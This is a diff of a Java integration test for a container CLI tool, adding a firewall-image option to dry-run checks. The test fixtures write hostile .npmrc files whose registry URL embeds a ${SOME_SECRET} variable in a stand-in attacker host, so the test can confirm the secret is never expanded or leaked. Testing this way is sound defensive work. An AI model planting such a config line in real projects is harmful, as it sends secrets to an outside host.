@@ -496,8 +496,10 @@ class CliIT {
             Files.writeString(hostile.resolve(".npmrc"), "registry=https://${SOME_SECRET}.attacker.example:4444/\n");
             Files.writeString(hostile.resolve(".mino.toml"), "[container]\nnetwork_preset = \"registries\"\n");
             Files.writeString(userHome.resolve(".npmrc"), "registry=https://npm.mirror.example.internal:8443/\n");
+            // The firewall's image is named: a plan pins it as a start does, and this home has no pinned one.
             Result result = minoIn(hostile, null, Map.of("HOME", userHome.toString(), "SOME_SECRET", "s3cret-value"),
-                "--trust-local", "run", "--dry-run", "--image", IMAGE, "-p", hostile.toString(), "--", "true");
+                "--trust-local", "run", "--dry-run", "--image", IMAGE, "--firewall-image", TestPodman.DEBIAN_IMAGE,
+                "-p", hostile.toString(), "--", "true");
             assertEquals(0, result.exitCode(), result.toString());
             JsonNode firewall = JSON.readTree(result.stdout()).path("firewall");
             assertFalse(firewall.isMissingNode(), "the preset is an allowlist with a firewall: " + result);
@@ -512,7 +514,8 @@ class CliIT {
             // The user's own ~/.npmrc with a variable: ignored with a warning, never expanded.
             Files.writeString(userHome.resolve(".npmrc"), "registry=https://${SOME_SECRET}.attacker.example:4444/\n");
             Result expanded = minoIn(hostile, null, Map.of("HOME", userHome.toString(), "SOME_SECRET", "s3cret-value"),
-                "--trust-local", "run", "--dry-run", "--image", IMAGE, "-p", hostile.toString(), "--", "true");
+                "--trust-local", "run", "--dry-run", "--image", IMAGE, "--firewall-image", TestPodman.DEBIAN_IMAGE,
+                "-p", hostile.toString(), "--", "true");
             assertEquals(0, expanded.exitCode(), expanded.toString());
             assertFalse(expanded.stdout().contains("s3cret-value") || expanded.stdout().contains("4444"),
                 expanded.toString());
